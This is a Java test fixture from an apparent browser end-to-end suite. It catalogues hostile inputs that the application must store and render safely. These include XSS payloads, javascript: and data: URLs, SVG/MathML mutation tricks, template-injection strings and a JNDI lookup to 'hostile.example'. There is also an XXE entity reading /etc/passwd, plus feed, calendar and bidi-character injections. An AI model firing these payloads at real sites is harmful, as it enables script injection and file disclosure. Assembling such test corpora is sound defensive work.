package dev.incidentledger.e2e.browser;

import java.util.List;
import java.util.stream.Stream;

/** What somebody could write who wants more from a reader's browser than to be read, by technique. All of it may be written. */
final class HostileTexts {

    private static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT>alert(1)</SCRIPT>",
            "<script >alert(1)</script >",
            "<script\n\n>alert(1)</script\n\n>",
            "<script/x>alert(1)</script>",
            "<script src=https://hostile.example/x.js></script>",
            "<script src=//hostile.example/x.js>",
            "<script type=module>import('https://hostile.example/x.js')</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<<script>alert(1)//<</script>",
            "<script>alert(1)",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<xmp><script>alert(1)</script></xmp>",
            "<plaintext>",
            "<base href=https://hostile.example/>",
            "<meta http-equiv=refresh content=\"0;url=https://hostile.example/\">",
            "<link rel=stylesheet href=https://hostile.example/x.css>",
            "<style>*{display:none}</style>",
            "<style>@import 'https://hostile.example/x.css';</style>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<iframe src=https://hostile.example/></iframe>",
            "<object data=https://hostile.example/x></object>",
            "<embed src=https://hostile.example/x>",
            "<frameset onload=alert(1)>",
            "<form id=main><input name=textContent autofocus onfocus=alert(1)>",
            "<a id=overall name=inspect>x</a>",
            "<b>bold</b> <i>italic</i> <u>under</u>",
            "<p class=text style=position:fixed>",
            "<div style=\"background:url(https://hostile.example/)\">x</div>");

    private static final List<String> ELEMENTS_WITH_HANDLERS = List.of(
            "img src=x onerror",
            "svg onload",
            "body onpageshow",
            "input autofocus onfocus",
            "select autofocus onfocus",
            "textarea autofocus onfocus",
            "button autofocus onfocus",
            "video src=x onerror",
            "audio src=x onerror",
            "source onerror",
            "details open ontoggle",
            "iframe onload",
            "object data=x onerror",
            "marquee onstart",
            "x tabindex=1 autofocus onfocus",
            "div onmouseover",
            "a href=# onclick",
            "style onload",
            "link rel=stylesheet href=x onerror",
            "script src=x onerror");

    private static final List<String> HANDLERS = Stream.of("<%s=alert(1)>", "\"'><%s='alert(1)'//")
            .flatMap(form -> ELEMENTS_WITH_HANDLERS.stream().map(form::formatted))
            .toList();

    private static final List<String> ATTRIBUTES = List.of(
            "\" onmouseover=\"alert(1)",
            "' onmouseover='alert(1)",
            "` onmouseover=`alert(1)",
            "x onmouseover=alert(1) x",
            "\" autofocus tabindex=1 onfocus=\"alert(1)",
            "\" style=\"position:fixed;inset:0",
            "\" id=\"main",
            "\"onload=\"alert(1)",
            "\\\" onload=alert(1) \\\"",
            "\">",
            "'>",
            "/>",
            "=\"'`<>&");

    /** None of them may be where a link leads. */
    static final List<String> ADDRESSES = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "javascript&colon;alert(1)",
            "&#106;avascript:alert(1)",
            "java&Tab;script:alert(1)",
            "java%0ascript:alert(1)",
            "javascript://example.com/%0aalert(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:image/svg+xml,<svg onload=alert(1)>",
            "blob:https://hostile.example/1",
            "//hostile.example/",
            "/\\hostile.example/",
            "https:hostile.example",
            "https://ok.example/\"onmouseover=\"alert(1)");

    private static final List<String> LINKS = Stream.of("[x](%s)", "![x](<%s>)", "<%s>", "[x][r]\n\n[r]: %s")
            .flatMap(form -> ADDRESSES.stream().map(form::formatted))
            .toList();

    private static final List<String> MARKDOWN = List.of(
            "[x](https://ok.example \"x\" onclick=alert(1))",
            "[x](https://ok.example '\"><img src=x onerror=alert(1)>')",
            "[<img src=x onerror=alert(1)>](https://ok.example)",
            "![<script>alert(1)</script>](https://hostile.example/pixel.png)",
            "`<script>alert(1)</script>`",
            "```html\" onload=\"alert(1)\n<script>alert(1)</script>\n```",
            "    <script>alert(1)</script>",
            "> <script>alert(1)</script>",
            "- <img src=x onerror=alert(1)>",
            "1. <svg onload=alert(1)>",
            "# <img src=x onerror=alert(1)>",
            "**<img src=x onerror=alert(1)>**",
            "| <b onclick=alert(1)>x</b> |\n|---|",
            "\\<script>alert(1)</script>",
            "<!-- x --><script>alert(1)</script>\n\n<script>alert(1)</script>");

    private static final List<String> ENTITIES = List.of(
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
            "&amp;lt;script&amp;gt;alert(1)",
            "&ltscript&gtalert(1)",
            "&quot; onmouseover=&quot;alert(1)",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "\\u003cscript\\u003ealert(1)",
            "\\x3cscript\\x3ealert(1)",
            "+ADw-script+AD4-alert(1)",
            "\uff1cscript\uff1ealert(1)");

    private static final List<String> FOREIGN = List.of(
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<svg><set onbegin=alert(1)>",
            "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
            "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<svg><title><style></title><img src=x onerror=alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
            "<math href=javascript:alert(1)>x</math>");

    private static final List<String> TEMPLATES = List.of(
            "${7*7}",
            "#{7*7}",
            "{{7*7}}",
            "{{constructor.constructor('alert(1)')()}}",
            "$unsafe{frame}",
            "${frame.site()}",
            "@template.layout()",
            "!{var x = 1;}",
            "<%= 7*7 %>",
            "{0}",
            "{0,choice,0#x}",
            "'{0}' '' '",
            "%s%n%1$s",
            "${jndi:ldap://hostile.example/x}");

    private static final List<String> WAYS_OUT = List.of(
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "</svg><script>alert(1)</script>",
            "</p></div></li></ol></main></body></html><script>alert(1)</script>",
            "</blockquote></details><img src=x onerror=alert(1)>",
            "</time></b></h1><img src=x onerror=alert(1)>",
            "--><script>alert(1)</script>",
            "<!--",
            "<!--><script>alert(1)</script>",
            "<!-- --!><img src=x onerror=alert(1)>",
            "]]><script>alert(1)</script>",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<?xml version=\"1.0\"?><x/>",
            "<?php echo 1 ?>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "</content></entry><entry><title>forged</title></entry>",
            "</title></item><item><title>forged</title></item>",
            "]]></description></item>",
            "\"}]}</script><script>alert(1)</script>",
            "\",\"status\":{\"indicator\":\"none\"},\"x\":\"",
            "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:forged",
            "x\\nEND:VEVENT\\nBEGIN:VEVENT",
            "x\n ATTACH:https://hostile.example/",
            "x;ALTREP=\"https://hostile.example/\":y,z\\",
            "\u2028alert(1)\u2029");

    private static final List<String> CHARACTERS = List.of(
            "\u202e<script>alert(1)</script>\u202c",
            "\u2066\"><img src=x onerror=alert(1)>\u2069",
            "\u200f\u061cright to left",
            "\u200b<script>\u200balert(1)</script>",
            "\ufeff<script>alert(1)</script>",
            "<scr\u00adipt>alert(1)</scr\u00adipt>",
            "<\u017fcript>alert(1)</\u017fcript>",
            "<scr\u0131pt>alert(1)</scr\u0131pt>",
            "<img\u00a0src=x\u00a0onerror=alert(1)>",
            "<img\tsrc=x\tonerror=alert(1)>",
            "\u02ba onmouseover=\u02baalert(1)",
            "<b\u0301 onclick=alert(1)>",
            "\ud83d\udca5<img src=x onerror=alert(1)>",
            "\ufffd\ufffc<svg onload=alert(1)>",
            "<\ufdd0script>alert(1)");

    static final List<String> ALL = Stream.of(
                    SCRIPTS, HANDLERS, ATTRIBUTES, LINKS, MARKDOWN, ENTITIES, FOREIGN, TEMPLATES, WAYS_OUT, CHARACTERS)
            .flatMap(List::stream)
            .toList();

    /** What no field takes. */
    static final List<String> CONTROLS = List.of(
            "<\u0000script>alert(1)",
            "<script\u0000>",
            "\u0007",
            "\u001b]8;;https://hostile.example\u0007x",
            "a\rb",
            "\u0008<");

    private HostileTexts() {}

    /** As it is shown: nothing may turn the direction of what stands around it. */
    static String withoutTurns(String text) {
        return text.replaceAll("[\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]", "");
    }
}
